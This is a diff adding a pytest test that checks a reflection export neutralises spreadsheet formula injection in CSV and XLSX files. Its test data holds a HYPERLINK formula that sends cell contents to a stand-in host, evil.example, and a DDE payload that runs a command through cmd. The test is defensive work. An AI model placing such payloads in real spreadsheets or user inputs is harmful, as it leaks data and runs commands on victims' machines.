@@ -98,3 +98,26 @@ def test_the_export_has_a_header_and_one_row_per_reflection_without_addresses(
     cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert cells[0] == rows[0] and len(cells) == 1 + len(reflections)
     assert not any("@" in str(value) for row in cells for value in row)
+
+
+# (A tab or a carriage return first is defused too, but names and words are stored trimmed.)
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_words_that_look_like_formulas_stay_text_in_the_export(admin_client, video, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    post_reflection(
+        video=video,
+        name=f"{start}cmd|' /C calc'!A0",
+        email="viewer@example.org",
+        text=formula,
+        idempotency_key="formula",
+        mode="open",
+    )
+    response = admin_client.get(QUEUE + "?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    [row] = rows[1:]
+    assert row[1] == f"'{start}cmd|' /C calc'!A0"
+    assert row[2] == f"'{formula}"
+
+    response = admin_client.get(QUEUE + "?export=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
